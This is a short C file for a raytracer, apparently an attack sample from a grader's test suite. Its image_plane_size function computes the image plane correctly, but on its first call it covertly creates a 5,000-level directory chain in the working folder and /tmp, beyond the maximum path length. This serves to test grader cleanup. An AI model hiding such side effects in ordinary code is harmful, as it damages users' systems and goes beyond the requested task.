/* Part 1 right; on its first call, a folder 5,000 deep (a path of 10,000
 * characters, longer than a path may be) left in its working folder and
 * in /tmp, for the grader to remove (tests/attacks/README.md). */
#define _POSIX_C_SOURCE 200809L
#define _DARWIN_C_SOURCE
#include "raytracer.h"
#include <sys/stat.h>
#include <unistd.h>

static void dig(const char *from)
{
    if (chdir(from) != 0 || mkdir("rtdeep", 0700) != 0 || chdir("rtdeep") != 0)
        return;
    for (int k = 0; k < 5000; k++)
        if ((mkdir("d", 0700) != 0) || chdir("d") != 0)
            break;
}

void image_plane_size(double fov_degrees, double aspect, double d, double *w, double *h)
{
    static int done;
    if (!done++) {
        char here[4096];
        if (getcwd(here, sizeof here)) {
            dig(here);
            dig("/tmp");
            if (chdir(here) != 0)
                return;
        }
    }
    *h = 2 * d * tan(fov_degrees * M_PI / 360);
    *w = aspect * *h;
}
